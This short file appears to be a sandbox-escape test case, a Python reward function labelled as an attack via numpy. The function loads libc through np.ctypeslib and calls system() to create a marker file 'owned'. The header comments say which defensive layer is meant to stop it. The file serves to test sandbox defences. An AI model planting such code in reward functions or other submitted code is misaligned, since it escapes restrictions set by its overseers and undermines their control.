# attack: np.ctypeslib.load_library
# group: numpy
# wall: language; alone: seccomp (no fork, no exec)

def compute_reward(x):
    np.ctypeslib.load_library('libc.so.6', '/lib').system(b'touch @FOLDER@/owned')
    return x, {}
